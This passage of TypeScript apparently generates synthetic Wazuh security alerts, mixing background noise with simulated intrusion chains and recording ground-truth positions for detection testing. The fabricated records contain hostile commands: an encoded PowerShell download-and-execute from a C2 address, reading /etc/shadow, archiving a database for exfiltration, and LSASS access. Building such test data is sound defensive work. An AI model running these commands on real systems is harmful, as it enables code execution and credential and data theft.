    if (this.pending.length === 0) return;
    const chunk = Buffer.from(this.pending.join(''), 'utf8');
    writeSync(this.fd, chunk);
    this.bytes += chunk.length;
    this.pending = [];
    this.pendingChars = 0;
  }

  close(): void {
    this.flush();
    closeSync(this.fd);
  }
}

/** Builds alert records; every builder takes the time and what the event is about. */
class AlertFactory {
  private pidCounter = 1000;
  private recordCounter = 100000;
  constructor(
    private readonly out: AlertFileWriter,
    readonly world: World,
  ) {}

  private rule(def: RuleDef, descriptionSuffix = ''): Alert {
    const rule: Alert = { level: def.level, description: def.description + descriptionSuffix, id: def.id };
    if (def.mitre) {
      rule.mitre = { id: def.mitre.map((m) => m.id), tactic: [...new Set(def.mitre.flatMap((m) => m.tactic))], technique: def.mitre.map((m) => m.technique) };
    }
    rule.firedtimes = this.out.fired(def.id);
    rule.mail = def.level >= 12;
    rule.groups = def.groups;
    if (def.compliance) Object.assign(rule, def.compliance);
    return rule;
  }

  private envelope(t: number, def: RuleDef, host: Host, body: Alert, descriptionSuffix = ''): Alert {
    return {
      timestamp: wazuhTimestamp(t),
      rule: this.rule(def, descriptionSuffix),
      agent: { id: host.agentId, name: host.name, ip: host.ip },
      manager: { name: MANAGER },
      id: this.out.nextId(t),
      ...body,
    };
  }

  private pid(rng: Rng): number {
    this.pidCounter = (this.pidCounter + rng.range(1, 40)) % 60000;
    return this.pidCounter + 300;
  }

  private syslog(t: number, def: RuleDef, host: Host, program: string, pid: number, message: string, data: Alert, location: string): Alert {
    const stamp = syslogTimestamp(t);
    return this.envelope(t, def, host, {
      full_log: `${stamp} ${host.name} ${program}[${pid}]: ${message}`,
      predecoder: { program_name: program, timestamp: stamp, hostname: host.name },
      decoder: { parent: program === 'sudo' ? 'sudo' : program, name: program },
      data,
      location,
    });
  }

  sshInvalidUser(t: number, rng: Rng, host: Host, srcip: string, user: string, def: RuleDef = R.sshInvalidUser): Alert {
    const port = rng.range(32768, 60999);
    return this.syslog(t, def, host, 'sshd', this.pid(rng), `Invalid user ${user} from ${srcip} port ${port}`, { srcip, srcport: String(port), srcuser: user }, '/var/log/auth.log');
  }

  sshFailed(t: number, rng: Rng, host: Host, srcip: string, user: string, def: RuleDef = R.sshFailed): Alert {
    const port = rng.range(32768, 60999);
    return this.syslog(t, def, host, 'sshd', this.pid(rng), `Failed password for ${user} from ${srcip} port ${port} ssh2`, { srcip, srcport: String(port), dstuser: user }, '/var/log/auth.log');
  }

  sshSuccess(t: number, rng: Rng, host: Host, srcip: string, user: string): Alert {
    const port = rng.range(32768, 60999);
    const method = rng.chance(0.6) ? 'publickey' : 'password';
    return this.syslog(t, R.sshSuccess, host, 'sshd', this.pid(rng), `Accepted ${method} for ${user} from ${srcip} port ${port} ssh2${method === 'publickey' ? `: RSA SHA256:${rng.hex(43)}` : ''}`, { srcip, srcport: String(port), dstuser: user }, '/var/log/auth.log');
  }

  sshScan(t: number, rng: Rng, host: Host, srcip: string): Alert {
    const port = rng.range(32768, 60999);
    return this.syslog(t, R.sshScan, host, 'sshd', this.pid(rng), `Did not receive identification string from ${srcip} port ${port}`, { srcip, srcport: String(port) }, '/var/log/auth.log');
  }

  pamSession(t: number, rng: Rng, host: Host, user: string): Alert {
    return this.syslog(t, R.pamSession, host, 'sshd', this.pid(rng), `pam_unix(sshd:session): session opened for user ${user}(uid=${rng.range(1000, 9000)}) by (uid=0)`, { dstuser: user, uid: '0' }, '/var/log/auth.log');
  }

  sudo(t: number, rng: Rng, host: Host, user: string, command: string, def: RuleDef = R.sudoRoot): Alert {
    const stamp = syslogTimestamp(t);
    return this.envelope(t, def, host, {
      full_log: `${stamp} ${host.name} sudo: ${user} : TTY=pts/${rng.int(4)} ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`,
      predecoder: { program_name: 'sudo', timestamp: stamp, hostname: host.name },
      decoder: { parent: 'sudo', name: 'sudo' },
      data: { srcuser: user, dstuser: 'root', tty: `pts/${rng.int(4)}`, pwd: `/home/${user}`, command },
      location: '/var/log/auth.log',
    });
  }

  userAdded(t: number, rng: Rng, host: Host, newUser: string): Alert {
    return this.syslog(t, R.userAdded, host, 'useradd', this.pid(rng), `new user: name=${newUser}, UID=${rng.range(1001, 1100)}, GID=${rng.range(1001, 1100)}, home=/home/${newUser}, shell=/bin/bash, from=/dev/pts/1`, { dstuser: newUser }, '/var/log/auth.log');
  }

  private winSystem(t: number, rng: Rng, host: Host, eventId: string, provider: 'security' | 'sysmon', severity: string, message: string): Alert {
    const security = provider === 'security';
    return {
      providerName: security ? 'Microsoft-Windows-Security-Auditing' : 'Microsoft-Windows-Sysmon',
      providerGuid: security ? '{54849625-5478-4994-a5ba-3e3b0328c30d}' : '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}',
      eventID: eventId,
      version: security ? '0' : '5',
      level: security ? '0' : '4',
      task: security ? '12544' : eventId,
      opcode: '0',
      keywords: security ? (severity === 'AUDIT_FAILURE' ? '0x8010000000000000' : '0x8020000000000000') : '0x8000000000000000',
      systemTime: new Date(t).toISOString().slice(0, 23) + '0000Z',
      eventRecordID: String(this.recordCounter++),
      processID: String(security ? 636 : 2956),
      threadID: String(rng.range(600, 9000)),
      channel: security ? 'Security' : 'Microsoft-Windows-Sysmon/Operational',
      computer: host.fqdn,
      severityValue: severity,
      message,
    };
  }

  private windows(t: number, def: RuleDef, host: Host, system: Alert, eventdata: Alert): Alert {
    return this.envelope(t, def, host, {
      decoder: { name: 'windows_eventchannel' },
      data: { win: { system, eventdata } },
      location: 'EventChannel',
    });
  }

  winLogon(t: number, rng: Rng, host: Host, user: string, ip: string, success: boolean, logonType: number, def?: RuleDef): Alert {
    const eventId = success ? '4624' : '4625';
    const message = success ? '"An account was successfully logged on."' : '"An account failed to log on."';
    const eventdata: Alert = success
      ? {
          subjectUserSid: 'S-1-0-0',
          subjectLogonId: '0x0',
          targetUserSid: `S-1-5-21-3623811015-3361044348-30300820-${1000 + (user.length * 7919) % 9000}`,
          targetUserName: user,
          targetDomainName: 'CORP',
          targetLogonId: `0x${rng.hex(7)}`,
          logonType: String(logonType),
          logonProcessName: 'NtLmSsp',
          authenticationPackageName: 'NTLM',
          workstationName: host.name.toUpperCase(),
          logonGuid: '{00000000-0000-0000-0000-000000000000}',
          lmPackageName: 'NTLM V2',
          keyLength: '128',
          processId: '0x0',
          ipAddress: ip,
          ipPort: String(rng.range(49152, 65535)),
          impersonationLevel: '%%1833',
          elevatedToken: '%%1843',
        }
      : {
          subjectUserSid: 'S-1-0-0',
          subjectLogonId: '0x0',
          targetUserName: user,
          targetDomainName: 'CORP',
          status: '0xc000006d',
          failureReason: '%%2313',
          subStatus: rng.chance(0.7) ? '0xc000006a' : '0xc0000064',
          logonType: String(logonType),
          logonProcessName: 'NtLmSsp',
          authenticationPackageName: 'NTLM',
          workstationName: rng.chance(0.5) ? host.name.toUpperCase() : '-',
          keyLength: '0',
          processId: '0x0',
          ipAddress: ip,
          ipPort: String(rng.range(49152, 65535)),
        };
    return this.windows(t, def ?? (success ? R.winLogonSuccess : R.winLogonFailure), host, this.winSystem(t, rng, host, eventId, 'security', success ? 'AUDIT_SUCCESS' : 'AUDIT_FAILURE', message), eventdata);
  }

  winGroupAdd(t: number, rng: Rng, host: Host, actor: string, member: string): Alert {
    return this.windows(t, R.winAdminGroup, host, this.winSystem(t, rng, host, '4732', 'security', 'AUDIT_SUCCESS', '"A member was added to a security-enabled local group."'), {
      memberName: `CN=${member},OU=Users,DC=corp,DC=example,DC=com`,
      memberSid: `S-1-5-21-3623811015-3361044348-30300820-${rng.range(1000, 9999)}`,
      targetUserName: 'Administrators',
      targetDomainName: 'Builtin',
      targetSid: 'S-1-5-32-544',
      subjectUserSid: `S-1-5-21-3623811015-3361044348-30300820-${rng.range(1000, 9999)}`,
      subjectUserName: actor,
      subjectDomainName: 'CORP',
      subjectLogonId: `0x${rng.hex(7)}`,
    });
  }

  sysmonProcess(t: number, rng: Rng, host: Host, user: string, binary: Binary, commandLine?: string, def: RuleDef = R.sysmonProcess, parent?: string): Alert {
    const utc = new Date(t).toISOString().replace('T', ' ').slice(0, 23);
    const guid = () => `{${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-0000-0010${rng.hex(8)}}`;
    return this.windows(
      t,
      def,
      host,
      this.winSystem(t, rng, host, '1', 'sysmon', 'INFORMATION', `"Process Create:\r\nRuleName: -\r\nUtcTime: ${utc}\r\nImage: ${binary.image}\r\nUser: ${user}"`),
      {
        ruleName: 'technique_id=T1059,technique_name=Command-Line Interface',
        utcTime: utc,
        processGuid: guid(),
        processId: String(this.pid(rng)),
        image: binary.image,
        fileVersion: '10.0.19041.3636 (WinBuild.160101.0800)',
        description: binary.description,
        product: binary.product,
        company: binary.company,
        originalFileName: binary.originalFileName,
        commandLine: commandLine ?? rng.pick(binary.commandLines),
        currentDirectory: binary.system ? 'C:\\Windows\\system32\\' : `C:\\Users\\${user.split('\\').pop()}\\`,
        user,
        logonGuid: guid(),
        logonId: binary.system ? '0x3e7' : `0x${rng.hex(6)}`,
        terminalSessionId: binary.system ? '0' : '1',
        integrityLevel: binary.system ? 'System' : 'Medium',
        hashes: rng.pick(binary.hashes),
        parentProcessGuid: guid(),
        parentProcessId: String(this.pid(rng)),
        parentImage: parent ?? binary.parent,
        parentCommandLine: parent ?? binary.parent,
        parentUser: user,
      },
    );
  }

  lsassAccess(t: number, rng: Rng, host: Host, user: string): Alert {
    return this.windows(t, R.lsassDump, host, this.winSystem(t, rng, host, '10', 'sysmon', 'INFORMATION', '"Process accessed:\r\nRuleName: technique_id=T1003,technique_name=Credential Dumping"'), {
      ruleName: 'technique_id=T1003,technique_name=Credential Dumping',
      utcTime: new Date(t).toISOString().replace('T', ' ').slice(0, 23),
      sourceProcessGUID: `{${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-0000-0010${rng.hex(8)}}`,
      sourceProcessId: String(this.pid(rng)),
      sourceThreadId: String(rng.range(1000, 9000)),
      sourceImage: 'C:\\Windows\\System32\\rundll32.exe',
      targetProcessGUID: `{${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-0000-0010${rng.hex(8)}}`,
      targetProcessId: '672',
      targetImage: 'C:\\Windows\\system32\\lsass.exe',
      grantedAccess: '0x1fffff',
      callTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+2b5ec',
      sourceUser: user,
      targetUser: 'NT AUTHORITY\\SYSTEM',
    });
  }

  sysmonNetwork(t: number, rng: Rng, host: Host, user: string, image: string, destIp: string, destPort: number, def: RuleDef): Alert {
    return this.windows(t, def, host, this.winSystem(t, rng, host, '3', 'sysmon', 'INFORMATION', '"Network connection detected"'), {
      ruleName: 'technique_id=T1567,technique_name=Exfiltration Over Web Service',
      utcTime: new Date(t).toISOString().replace('T', ' ').slice(0, 23),
      processGuid: `{${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-0000-0010${rng.hex(8)}}`,
      processId: String(this.pid(rng)),
      image,
      user,
      protocol: 'tcp',
      initiated: 'true',
      sourceIsIpv6: 'false',
      sourceIp: host.ip,
      sourceHostname: host.fqdn,
      sourcePort: String(rng.range(49152, 65535)),
      destinationIsIpv6: 'false',
      destinationIp: destIp,
      destinationPort: String(destPort),
      destinationPortName: destPort === 443 ? 'https' : '-',
    });
  }

  suricata(t: number, rng: Rng, sensor: Host, src: string, srcPort: number, dest: string, destPort: number, proto: string, sig: [number, string, string], extra: Alert = {}, def: RuleDef = R.suricata): Alert {
    const eve: Alert = {
      timestamp: new Date(t).toISOString().slice(0, 23) + '000+0000',
      flow_id: String(rng.range(1e9, 2e9) * 1000 + rng.int(1000)),
      in_iface: 'ens192',
      event_type: 'alert',
      src_ip: src,
      src_port: String(srcPort),
      dest_ip: dest,
      dest_port: String(destPort),
      proto,
      ...extra,
      alert: { action: 'allowed', gid: '1', signature_id: String(sig[0]), rev: String(rng.range(1, 9)), signature: sig[1], category: sig[2], severity: String(sig[2] === 'Not Suspicious Traffic' ? 3 : 2) },
    };
    // JSON-decoded events carry no full_log in alerts.json (the decoded fields are the record).
    return this.envelope(t, def, sensor, { decoder: { name: 'json' }, data: eve, location: '/var/log/suricata/eve.json' }, def === R.suricata ? sig[1] : '');
  }

  dnsAlert(t: number, rng: Rng, sensor: Host, client: string, domain: string): Alert {
    const sig = rng.pick(DNS_SIGNATURES);
    return this.suricata(t, rng, sensor, client, rng.range(49152, 65535), DNS_SERVER, 53, 'UDP', sig, { app_proto: 'dns', dns: { type: 'query', id: String(rng.int(65536)), rrname: domain, rrtype: 'A', tx_id: '0' } });
  }

  web(t: number, rng: Rng, host: Host, srcip: string, path: string, status: number, def: RuleDef = R.web400, agent?: string): Alert {
    const ua = agent ?? rng.pick(USER_AGENTS);
    const size = rng.range(150, 9000);
    return this.envelope(t, def, host, {
      full_log: `${srcip} - - [${accessLogTimestamp(t)}] "GET ${path} HTTP/1.1" ${status} ${size} "-" "${ua}"`,
      decoder: { name: 'web-accesslog' },
      data: { protocol: 'GET', srcip, id: String(status), url: path },
      location: '/var/log/nginx/access.log',
    });
  }

  syscheck(t: number, rng: Rng, host: Host, path: string): Alert {
    const sizeBefore = rng.range(200, 90000);
    const sizeAfter = sizeBefore + rng.range(-200, 400);
    const md5 = rng.hex(32);
    const sha1 = rng.hex(40);
    const sha256 = rng.hex(64);
    const mtime = new Date(t - rng.range(1000, 60000)).toISOString().slice(0, 19);
    return this.envelope(t, R.syscheckChanged, host, {
      full_log: `File '${path}' modified\nMode: ${host.windows ? 'realtime' : 'scheduled'}\nChanged attributes: size,mtime,md5,sha1,sha256\nSize changed from '${sizeBefore}' to '${sizeAfter}'\nOld modification time was: '${mtime}', now it is '${mtime}'\nOld md5sum was: '${rng.hex(32)}'\nNew md5sum is : '${md5}'\nOld sha1sum was: '${rng.hex(40)}'\nNew sha1sum is : '${sha1}'\nOld sha256sum was: '${rng.hex(64)}'\nNew sha256sum is : '${sha256}'\n`,
      syscheck: {
        path,
        mode: host.windows ? 'realtime' : 'scheduled',
        size_before: String(sizeBefore),
        size_after: String(sizeAfter),
        perm_after: host.windows ? undefined : 'rw-r--r--',
        uid_after: host.windows ? undefined : '0',
        gid_after: host.windows ? undefined : '0',
        md5_after: md5,
        sha1_after: sha1,
        sha256_after: sha256,
        uname_after: host.windows ? 'SYSTEM' : 'root',
        gname_after: host.windows ? undefined : 'root',
        mtime_after: mtime,
        inode_after: host.windows ? undefined : rng.range(100000, 9999999),
        changed_attributes: ['size', 'mtime', 'md5', 'sha1', 'sha256'],
        event: 'modified',
      },
      decoder: { name: 'syscheck_integrity_changed' },
      location: 'syscheck',
    });
  }

  rootcheck(t: number, rng: Rng, host: Host): Alert {
    const [title, file] = rng.pick(ROOTCHECK_FINDINGS);
    return this.envelope(t, R.rootcheck, host, {
      full_log: `${title.replace(/\.$/, '')}: '${file}'. Signature used: 'bash|^/bin/sh|file\\.h|proc\\.h|/dev/[^n]|^/bin/.*sh' (Generic).`,
      decoder: { name: 'rootcheck' },
      data: { title, file },
      location: 'rootcheck',
    });
  }
}

// ---------------------------------------------------------------------------
// Noise

const NOISE_MIX: Array<[NoiseKind, number]> = [
  ['dns', 28],
  ['sysmon', 20],
  ['winLogonFailure', 7],
  ['winLogonSuccess', 4],
  ['sshInternet', 10],
  ['web', 10],
  ['syscheck', 7],
  ['rootcheck', 3],
  ['admin', 5],
  ['localhost', 3],
  ['policy', 3],
];
type NoiseKind = 'dns' | 'sysmon' | 'winLogonFailure' | 'winLogonSuccess' | 'sshInternet' | 'web' | 'syscheck' | 'rootcheck' | 'admin' | 'localhost' | 'policy';
const NOISE_TOTAL = NOISE_MIX.reduce((s, [, w]) => s + w, 0);

function sensorFor(world: World, ip: string): Host {
  // Sensors watch subnets: pick one by the address so the same client is seen by the same sensor.
  let h = 0;
  for (let i = 0; i < ip.length; i++) h = (h * 31 + ip.charCodeAt(i)) >>> 0;
  return world.hosts[world.sensors[h % world.sensors.length]!]!;
}

function makeNoise(f: AlertFactory, t: number, rng: Rng): Alert {
  const w = f.world;
  const host = (pool: 'windows' | 'linux' | 'web') => {
    const list = pool === 'windows' ? w.windowsHosts : pool === 'linux' ? w.linuxHosts : w.webHosts;
    return w.hosts[list[w.hostPicker[pool].pick(rng)]!]!;
  };
  const user = () => w.users[w.userPicker.pick(rng)]!;
  const extIp = () => w.externalIps[w.ipPicker.pick(rng)]!;

  if (Timeline.inScanWindow(t) && rng.chance(SCAN_EXTRA / (SCAN_EXTRA + 0.45))) {
    // The nightly vulnerability scan: one scanner address against everything.
    const r = rng.float();
    if (r < 0.35) return f.web(t, rng, host('web'), SCANNER_IP, rng.pick(WEB_PATHS), 404, rng.chance(0.05) ? R.webScan : R.web400, 'Mozilla/5.0 (compatible; Nessus SOAP)');
    if (r < 0.6) return f.sshScan(t, rng, host('linux'), SCANNER_IP);
    if (r < 0.75) return f.winLogon(t, rng, host('windows'), rng.pick(INVALID_USERS), SCANNER_IP, false, 3);
    const target = w.hosts[rng.int(w.hosts.length)]!;
    return f.suricata(t, rng, sensorFor(w, target.ip), SCANNER_IP, rng.range(40000, 65000), target.ip, rng.pick([22, 80, 443, 445, 3389, 8080, 3306]), 'TCP', rng.pick(SCANNER_SIGNATURES));
  }

  let x = rng.float() * NOISE_TOTAL;
  let kind: NoiseKind = 'dns';
  for (const [k, weight] of NOISE_MIX) {
    if (x < weight) {
      kind = k;
      break;
    }
    x -= weight;
  }
  switch (kind) {
    case 'dns': {
      const client = rng.chance(0.8) ? host('windows') : host('linux');
      return f.dnsAlert(t, rng, sensorFor(w, client.ip), client.ip, w.domains[w.domainPicker.pick(rng)]!);
    }
    case 'sysmon': {
      const h = host('windows');
      if (rng.chance(0.65)) return f.sysmonProcess(t, rng, h, 'NT AUTHORITY\\SYSTEM', rng.pick(w.systemBinaries));
      return f.sysmonProcess(t, rng, h, `CORP\\${user()}`, rng.pick(w.userBinaries));
    }
    case 'winLogonFailure': {
      // Mostly fat fingers on the domain controllers, some RDP guessing from outside.
      if (rng.chance(0.7)) {
        const client = host('windows');
        return f.winLogon(t, rng, w.hosts[rng.pick(w.dcs)]!, user(), client.ip, false, 3);
      }
      return f.winLogon(t, rng, host('windows'), rng.chance(0.5) ? rng.pick(INVALID_USERS) : user(), extIp(), false, 10);
    }
    case 'winLogonSuccess': {
      const client = host('windows');
      return f.winLogon(t, rng, w.hosts[rng.pick(w.dcs)]!, user(), client.ip, true, 3);
    }
    case 'sshInternet': {
      const h = host('linux');
      const ip = extIp();
      const r = rng.float();
      if (r < 0.5) return f.sshInvalidUser(t, rng, h, ip, rng.pick(INVALID_USERS));
      if (r < 0.92) return f.sshFailed(t, rng, h, ip, rng.chance(0.6) ? 'root' : rng.pick(INVALID_USERS));
      return rng.chance(0.5) ? f.sshInvalidUser(t, rng, h, ip, rng.pick(INVALID_USERS), R.sshBruteInvalid) : f.sshFailed(t, rng, h, ip, 'root', R.sshMultipleFailures);
    }
    case 'web':
      return f.web(t, rng, host('web'), extIp(), rng.pick(WEB_PATHS), rng.chance(0.9) ? 404 : rng.pick([400, 403, 405]), rng.chance(0.03) ? R.webScan : R.web400);
    case 'syscheck': {
      const h = rng.chance(0.5) ? host('linux') : host('windows');
      return f.syscheck(t, rng, h, rng.pick(h.windows ? WINDOWS_FILES : LINUX_FILES));
    }
    case 'rootcheck':
      return f.rootcheck(t, rng, host('linux'));
    case 'admin': {
      // Day-to-day administration from the admin jump hosts.
      const h = host('linux');
      const admin = w.users[rng.int(60)]!;
      const jump = w.hosts[w.linuxHosts[rng.int(3)]!]!;
      const r = rng.float();
      if (r < 0.45) return f.sshSuccess(t, rng, h, jump.ip, admin);
      if (r < 0.65) return f.pamSession(t, rng, h, admin);
      return f.sudo(t, rng, h, admin, rng.pick(SUDO_COMMANDS));
    }
    case 'localhost': {
      const r = rng.float();
      if (r < 0.6) return f.web(t, rng, host('web'), '127.0.0.1', rng.pick(['/actuator/health', '/healthz', '/status', '/server-status']), 404, R.web400, 'kube-probe/1.29');
      return f.sshFailed(t, rng, host('linux'), '127.0.0.1', rng.chance(0.5) ? 'root' : rng.pick(INVALID_USERS));
    }
    case 'policy': {
      const client = rng.chance(0.5) ? host('linux') : host('windows');
      const sig = rng.pick(POLICY_SIGNATURES);
      const inbound = sig[1].includes('SCAN') || sig[1].includes('DROP') || sig[1].includes('CINS');
      const ext = extIp();
      return inbound
        ? f.suricata(t, rng, sensorFor(w, client.ip), ext, rng.range(1024, 65535), client.ip, rng.pick([22, 3306, 443, 80]), 'TCP', sig)
        : f.suricata(t, rng, sensorFor(w, client.ip), client.ip, rng.range(49152, 65535), ext, 80, 'TCP', sig);
    }
  }
}

// ---------------------------------------------------------------------------
// Attack chains

interface ChainPlan {
  index: number;
  windows: boolean;
  attackerIp: string;
  c2Ip: string;
  user: string;
  hosts: [Host, Host, Host];
  start: number;
}

interface ChainEvent {
  t: number;
  chain: number;
  build: (f: AlertFactory) => Alert;
}

function planChain(world: World, seed: number, index: number, timeline: Timeline): ChainPlan {
  const rng = new Rng((seed * 7919 + index * 104729) ^ 0xc4a1);
  const windows = rng.chance(0.45);
  const pool = windows ? world.windowsHosts : world.linuxHosts;
  const hosts = [0, 1, 2].map(() => world.hosts[pool[rng.int(pool.length)]!]!) as [Host, Host, Host];
  return {
    index,
    windows,
    attackerIp: publicIp(rng),
    c2Ip: publicIp(rng),
    user: world.users[rng.int(world.users.length)]!,
    hosts,
    // Leave room at the end for the chain (and its continuation) to play out.
    start: timeline.startMs + Math.floor(rng.float() * (timeline.days * DAY_MS - 12 * 3_600_000)),
  };
}

/** Minutes to hours between steps; now and then a long pause. */
function gap(rng: Rng): number {
  return rng.chance(0.12) ? rng.range(35, 150) * 60_000 : rng.range(60, 25 * 60) * 1000;
}

/** The main part of a chain: brute force → login → privilege escalation → lateral movement → exfiltration. */
function chainEvents(plan: ChainPlan, seed: number): ChainEvent[] {
  const rng = new Rng((seed * 31 + plan.index * 6151) ^ 0xa77ac);
  const events: ChainEvent[] = [];
  const at = (t: number, build: (f: AlertFactory) => Alert) => events.push({ t, chain: plan.index, build });
  const [h1, h2] = plan.hosts;
  const user = plan.user;
  let t = plan.start;
  const tries = rng.range(8, 40);
  if (!plan.windows) {
    for (let i = 0; i < tries; i++) {
      t += rng.range(1500, 20_000);
      const tt = t;
      if (rng.chance(0.6)) {
        const guess = rng.pick(INVALID_USERS);
        at(tt, (f) => f.sshInvalidUser(tt, rng, h1, plan.attackerIp, guess));
      } else at(tt, (f) => f.sshFailed(tt, rng, h1, plan.attackerIp, user));
    }
    const tb = (t += 2000);
    at(tb, (f) => f.sshInvalidUser(tb, rng, h1, plan.attackerIp, 'admin', R.sshBruteInvalid));
    const tm = (t += 3000);
    at(tm, (f) => f.sshFailed(tm, rng, h1, plan.attackerIp, user, R.sshMultipleFailures));
    const tl = (t += gap(rng));
    at(tl, (f) => f.sshSuccess(tl, rng, h1, plan.attackerIp, user));
    const tp = (t += 1000);
    at(tp, (f) => f.pamSession(tp, rng, h1, user));
    const te = (t += gap(rng));
    at(te, (f) => f.sudo(te, rng, h1, user, '/bin/bash', R.sudoFirstTime));
    const ts = (t += rng.range(20, 300) * 1000);
    at(ts, (f) => f.sudo(ts, rng, h1, user, '/bin/cat /etc/shadow', R.shadowRead));
    const tu = (t += rng.range(20, 300) * 1000);
    const backdoor = `svc-${rng.hex(4)}`;
    at(tu, (f) => f.userAdded(tu, rng, h1, backdoor));
    const tlat = (t += gap(rng));
    at(tlat, (f) => f.sshSuccess(tlat, rng, h2, h1.ip, user));
    const tlat2 = (t += rng.range(30, 600) * 1000);
    at(tlat2, (f) => f.sudo(tlat2, rng, h2, user, '/usr/bin/tar czf /tmp/.cache.tgz /var/lib/postgresql', R.sudoRoot));
  } else {
    for (let i = 0; i < tries; i++) {
      t += rng.range(1500, 20_000);
      const tt = t;
      const name = rng.chance(0.3) ? rng.pick(INVALID_USERS) : user;
      at(tt, (f) => f.winLogon(tt, rng, h1, name, plan.attackerIp, false, 10));
    }
    const tb = (t += 3000);
    at(tb, (f) => f.winLogon(tb, rng, h1, user, plan.attackerIp, false, 10, R.winMultipleFailures));
    const tl = (t += gap(rng));
    at(tl, (f) => f.winLogon(tl, rng, h1, user, plan.attackerIp, true, 10));
    const te = (t += gap(rng));
        at(te, (f) => f.sysmonProcess(te, rng, h1, `CORP\\${user}`, POWERSHELL, `powershell.exe -nop -w hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${plan.c2Ip}/a')`).toString('base64')}`, R.encodedPowershell, 'C:\\Windows\\explorer.exe'));
    const td = (t += rng.range(30, 600) * 1000);
    at(td, (f) => f.lsassAccess(td, rng, h1, `CORP\\${user}`));
    const tg = (t += rng.range(30, 600) * 1000);
    at(tg, (f) => f.winGroupAdd(tg, rng, h1, user, user));
    const tlat = (t += gap(rng));
    at(tlat, (f) => f.winLogon(tlat, rng, h2, user, h1.ip, true, 3, R.winPassTheHash));
    const tpx = (t += rng.range(5, 120) * 1000);
    at(tpx, (f) => f.sysmonProcess(tpx, rng, h2, 'NT AUTHORITY\\SYSTEM', PSEXESVC, 'C:\\Windows\\PSEXESVC.exe', R.psexec, 'C:\\Windows\\System32\\services.exe'));
  }
  const tx = (t += gap(rng));
  const transfers = rng.range(2, 8);
  for (let i = 0; i < transfers; i++) {
    const ti = tx + i * rng.range(20, 240) * 1000;
    at(ti, (f) =>
      plan.windows && i === 0
        ? f.sysmonNetwork(ti, rng, h2, `CORP\\${user}`, 'C:\\Users\\Public\\rclone.exe', plan.c2Ip, 443, R.rclone)
        : f.suricata(ti, rng, sensorFor(f.world, h2.ip), h2.ip, rng.range(49152, 65535), plan.c2Ip, 443, 'TCP', [2100498, 'GPL ATTACK_RESPONSE id check returned root', 'Potentially Bad Traffic'], { app_proto: 'tls', flow: { pkts_toserver: rng.range(5000, 90000), bytes_toserver: rng.range(50e6, 900e6) } }, R.exfilTransfer),
    );
  }
  return events;
}

/** Later steps of a chain (for the incremental run): a third host, then more exfiltration. */
function chainContinuation(plan: ChainPlan, seed: number, after: number): ChainEvent[] {
  const rng = new Rng((seed * 131 + plan.index * 3571) ^ 0xc0ffee);
  const events: ChainEvent[] = [];
  const at = (t: number, build: (f: AlertFactory) => Alert) => events.push({ t, chain: plan.index, build });
  const [, h2, h3] = plan.hosts;
  let t = after + rng.range(3, 20) * 60_000;
  const tl = t;
  if (plan.windows) at(tl, (f) => f.winLogon(tl, rng, h3, plan.user, h2.ip, true, 3, R.winPassTheHash));
  else at(tl, (f) => f.sshSuccess(tl, rng, h3, h2.ip, plan.user));
  const n = rng.range(2, 6);
  for (let i = 0; i < n; i++) {
    const ti = (t += rng.range(30, 400) * 1000);
    at(ti, (f) => f.suricata(ti, rng, sensorFor(f.world, h3.ip), h3.ip, rng.range(49152, 65535), plan.c2Ip, 443, 'TCP', [2100498, 'GPL ATTACK_RESPONSE id check returned root', 'Potentially Bad Traffic'], { app_proto: 'tls' }, R.exfilTransfer));
  }
  return events;
}

const POWERSHELL: Binary = {
  image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  description: 'Windows PowerShell',
  product: 'Microsoft® Windows® Operating System',
  company: 'Microsoft Corporation',
  originalFileName: 'PowerShell.EXE',
  hashes: ['SHA1=04029E121A0CFA5991749937DD22A1D9FDBB5C47,MD5=7353F60B1739074EB17C5F4DDDEFE239,SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C,IMPHASH=741776AACCFC5B71FF59832DCDCACE0F'],
  parent: 'C:\\Windows\\explorer.exe',
  commandLines: [],
  system: false,
};

const PSEXESVC: Binary = {
  image: 'C:\\Windows\\PSEXESVC.exe',
  description: 'PsExec Service',
  product: 'Sysinternals PsExec',
  company: 'Sysinternals - www.sysinternals.com',
  originalFileName: 'psexesvc.exe',
  hashes: ['SHA1=7A5B0F8B5F5C4F6E0C1B4C2A4D0B1C3F7E6D5A4B,MD5=75B55BB34DAC9D02740B9AD6B6820360,SHA256=141B2190F51397DBD0DFDE0E3904B264C91B6F81FEBC823FF0C33DA980B69944,IMPHASH=B4C1E0E5F37C4D3A9D1C88C9F2E1B0A7'],
  parent: 'C:\\Windows\\System32\\services.exe',
  commandLines: [],
  system: true,
};

// ---------------------------------------------------------------------------
// Public API

export interface GeneratorOptions {
  /** Alerts to write (noise fills what chains leave). */
  alerts: number;
  seed?: number;
  /** Start of the period, UTC ms (default 2026-02-02T00:00:00Z). */
  startMs?: number;
  days?: number;
  hosts?: number;
  users?: number;
  externalIps?: number;
  /** Attack chains in the main file (default ~1 per 3,000 alerts, at least 5). */
  chains?: number;
  /** Called now and then with the lines written so far. */
  onProgress?: (lines: number) => void;
}

/** Where a chain's alerts are in the file: 1-based line numbers and the Wazuh id written on them. */
export interface ChainTruth {
  chain: number;
  line: number;
  wazuhId: string;
}

export interface GenerateResult {
  path: string;
  alerts: number;
  bytes: number;
  chains: number;
  /** Alerts belonging to attack chains, in file order. */
  chainAlerts: ChainTruth[];
  ms: number;
}

interface Resolved {
  alerts: number;
  seed: number;
  timeline: Timeline;
  world: World;
  chains: number;
  onProgress?: (lines: number) => void;
}

function resolve(options: GeneratorOptions): Resolved {
  const seed = options.seed ?? 20260302;
  const timeline = new Timeline(options.startMs ?? Date.UTC(2026, 1, 2), options.days ?? 30);
  const world = buildWorld(seed, options.hosts ?? 2000, options.users ?? 5000, options.externalIps ?? 20_000);
  const chains = options.chains ?? Math.max(5, Math.round(options.alerts / 3000));
  return { alerts: options.alerts, seed, timeline, world, chains, onProgress: options.onProgress };
}

